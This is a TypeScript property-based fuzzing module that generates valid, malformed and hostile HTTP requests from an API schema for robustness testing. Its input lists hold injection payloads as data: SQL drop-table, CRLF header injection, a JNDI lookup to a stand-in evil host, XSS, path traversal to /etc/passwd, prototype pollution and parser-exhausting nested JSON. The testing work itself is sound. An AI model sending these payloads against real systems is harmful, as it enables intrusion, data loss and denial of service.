import * as fc from 'fast-check';
import type { Operation, Schema } from './operations.ts';

/** A request as it goes over the wire. `path` is encoded already. */
export type Asked = Readonly<{ path: string; body?: string | Uint8Array<ArrayBuffer>; type?: string }>;

/** Values that exist, so that a request is more than a wrong id: `workspaceId` -> ids, `email` -> addresses. */
export type Known = Readonly<Record<string, readonly string[]>>;

const hostileTexts = [
  '',
  ' ',
  'nul\u0000nul',
  'line\r\nSet-Cookie: crlf-injected=1',
  '\ud800 high surrogate alone',
  'low surrogate alone \udfff',
  '\u202egnirts a dne',
  "' or 1=1; drop table events; --",
  '${jndi:ldap://evil.example/a}{{7*7}}<script>alert(1)</script>',
  '../../../../etc/passwd',
  '__proto__',
  'long '.repeat(1_000),
  'longest '.repeat(7_000),
  '👩🏽‍🚀'.repeat(40),
] as const;

const hostileValues = [null, true, 0, -1, 1.5, 2 ** 53, 1e308, [], {}, [[]], { toString: 'x' }, { length: 8 }] as const;
const hostileKeys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'accountId', 'ada@own.key'];

const hostileIds = [
  'x',
  '7',
  '%00',
  '%ff',
  '%ed%a0%80',
  '..%2f..%2f',
  "'%20or%201=1",
  '%0d%0aX-Injected:%201',
  '00000000-0000-0000-0000-000000000000',
  'a'.repeat(150),
  'a'.repeat(1_000),
  '__proto__',
];

const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

const hostileBodies: readonly (string | Uint8Array<ArrayBuffer>)[] = [
  '',
  'null',
  '[]',
  '"text"',
  '7',
  'NaN',
  '{',
  '{"email"',
  '\ufeff{}',
  '{}{}',
  deep(10_000),
  `{"a":${deep(10_000)}}`,
  `{${'"a":{'.repeat(5_000)}${'}'.repeat(5_001)}`,
  '{"constructor":{"prototype":{"a":1}}}',
  `{"a":"${'x'.repeat(70_000)}"}`,
  new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  new Uint8Array([0x1f, 0x8b, 0x08, 0x00]),
];

const valueOf = (schema: Schema, name: string, known: Known): fc.Arbitrary<unknown> => {
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  if (schema.anyOf !== undefined) return fc.oneof(...schema.anyOf.map((part) => valueOf(part, name, known)));
  if (schema.type === 'integer') return fc.integer({ min: 1, max: 200 });
  if (schema.type === 'boolean') return fc.boolean();
  if (schema.type === 'array') return fc.array(valueOf(schema.items ?? {}, name, known), { maxLength: 3 });
  if (schema.type === 'object') return objectOf(schema, known);
  const those = known[name] ?? [];
  return fc.oneof(...(those.length === 0 ? [] : [{ arbitrary: fc.constantFrom(...those), weight: 3 }]), textOf(schema));
};

const textOf = ({ format, pattern, minLength = 1, maxLength = 60 }: Schema): fc.Arbitrary<string> => {
  if (format === 'uuid') return fc.uuid({ version: 4 });
  if (pattern === '^\\d{6}$') return fc.integer({ min: 0, max: 999_999 }).map((code) => String(code).padStart(6, '0'));
  return fc.string({ unit: 'grapheme', minLength: Math.max(minLength, 8), maxLength: Math.min(maxLength, 60) });
};

const objectOf = ({ properties = {}, required = [] }: Schema, known: Known) =>
  fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, valueOf(schema, name, known)])),
    { requiredKeys: [...required], noNullPrototype: true },
  ) as fc.Arbitrary<Readonly<Record<string, unknown>>>;

/** Keys that JavaScript would not set are written by hand. */
const withKey = (body: object, key: string, value: string): string =>
  `{${[JSON.stringify(body).slice(1, -1), `${JSON.stringify(key)}:${value}`].filter((part) => part !== '').join(',')}}`;

const spoiled = (good: Readonly<Record<string, unknown>>): fc.Arbitrary<string | Uint8Array<ArrayBuffer>> => {
  const text = JSON.stringify(good);
  const fields = Object.keys(good);
  const field = fields.length === 0 ? fc.constant('none') : fc.constantFrom(...fields);
  return fc.oneof(
    fc
      .tuple(field, fc.constantFrom<unknown>(...hostileValues, ...hostileTexts))
      .map(([name, value]) => JSON.stringify({ ...good, [name]: value })),
    field.map((name) => JSON.stringify({ ...good, [name]: undefined })),
    fc
      .tuple(fc.constantFrom(...hostileKeys), fc.constantFrom('1', '{"a":1}', 'null'))
      .map((added) => withKey(good, ...added)),
    field.map((name) => withKey(good, name, '"sent twice"')),
    fc.constantFrom(...hostileBodies),
    fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((cut) => text.slice(0, cut)),
  );
};

const pathOf = (path: string, known: Known, hostile: boolean): fc.Arbitrary<string> => {
  const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name);
  const id = (name: string) =>
    hostile ? fc.constantFrom(...hostileIds) : fc.oneof(fc.constantFrom(...(known[name] ?? ['x'])), fc.uuid());
  return fc
    .tuple(...names.map(id))
    .map((ids) => names.reduce((told, name, at) => told.replace(`{${name}}`, ids[at] ?? ''), path));
};

/** Some of the parameters as they should be, or one as nobody should send it, or one that nobody knows. */
const queryOf = (query: Operation['query'], known: Known): fc.Arbitrary<string> => {
  const good = query.map(({ name, schema }) =>
    valueOf(schema, name, known).map((value) => [value].flat().map((part) => [name, String(part)] as const)),
  );
  const hostile = fc
    .tuple(
      fc.constantFrom('colour', ...hostileKeys, ...query.map(({ name }) => name)),
      fc.constantFrom(...hostileTexts),
    )
    .map(([name, text]) => [[name, text.toWellFormed().slice(0, 2_000)] as const]);
  return fc
    .oneof(
      fc.constant([]),
      fc.subarray(good).chain((some) => fc.tuple(...some)),
      fc.tuple(hostile),
    )
    .map((pairs) => pairs.flat().map((pair) => pair.map(encodeURIComponent).join('=')))
    .map((pairs) => (pairs.length === 0 ? '' : `?${pairs.join('&')}`));
};

/** Requests as they should be, nearly as they should be, and as nobody should send them. */
const requestOf = ({ path, body, method, query }: Operation, known: Known): fc.Arbitrary<Asked> => {
  const good = body === undefined ? fc.constant({}) : objectOf(body, known);
  const sent = fc.oneof(
    good.map((fields) => JSON.stringify(fields)),
    { arbitrary: good.chain(spoiled), weight: 2 },
  );
  const type = fc.constantFrom(...Array<string>(9).fill('application/json'), 'text/plain', 'application/json; x', ';');
  const places = fc.boolean().chain((hostile) => pathOf(path, known, hostile));
  if (method === 'GET') return fc.tuple(places, queryOf(query, known)).map((parts) => ({ path: parts.join('') }));
  return fc.tuple(places, sent, type).map(([place, text, kind]) => ({ path: place, body: text, type: kind }));
};

/** The same requests every time. */
export const requestsFor = (operation: Operation, known: Known, count: number): readonly Asked[] =>
  fc.sample(requestOf(operation, known), { numRuns: count, seed: 20_261_124 });
